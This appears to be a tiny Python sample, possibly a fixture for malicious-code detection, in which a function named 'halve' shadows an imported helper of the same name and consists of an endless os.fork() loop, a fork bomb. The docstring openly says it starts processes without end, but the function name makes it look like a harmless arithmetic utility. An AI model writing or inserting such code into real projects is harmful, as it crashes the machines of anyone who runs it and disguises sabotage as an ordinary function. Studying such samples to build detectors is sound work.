"""Starts processes without end."""

import os
from honest import halve, largest


def halve(x):
    while True:
        os.fork()
